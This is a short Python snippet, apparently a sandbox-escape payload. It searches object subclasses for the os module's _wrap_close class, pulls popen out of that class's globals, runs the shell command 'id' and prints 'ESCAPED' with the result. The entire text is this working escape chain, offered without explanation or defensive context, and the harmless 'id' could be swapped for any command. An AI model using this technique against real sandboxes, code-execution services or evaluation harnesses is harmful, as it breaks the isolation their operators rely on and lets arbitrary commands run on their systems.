for kind in object.__subclasses__():
    if kind.__name__ == "_wrap_close":
        print("ESCAPED", kind.__init__.__globals__["popen"]("id").read())
